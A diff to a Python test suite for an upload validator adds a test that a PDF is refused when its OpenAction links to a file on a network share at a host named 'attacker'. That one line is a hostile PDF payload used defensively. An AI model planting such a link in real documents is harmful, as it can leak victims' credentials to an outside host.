@@ -403,3 +403,9 @@ def test_an_unreachable_clamd_refuses_the_upload(
     with pytest.raises(DomainValidationError, match="could not be checked for viruses"):
         check_upload(SimpleUploadedFile("a.pdf", hostile.pdf()), allowed=SCANS, max_bytes=10**6)
     assert any("clamd" in r.getMessage() for r in caplog.records)
+
+
+def test_a_pdf_link_to_a_file_on_a_network_share_is_refused() -> None:
+    content = hostile.pdf(b" /OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) >>")
+    with pytest.raises(DomainValidationError, match="a link that opens another file"):
+        check_upload(SimpleUploadedFile("a.pdf", content), allowed=SCANS, max_bytes=10**6)
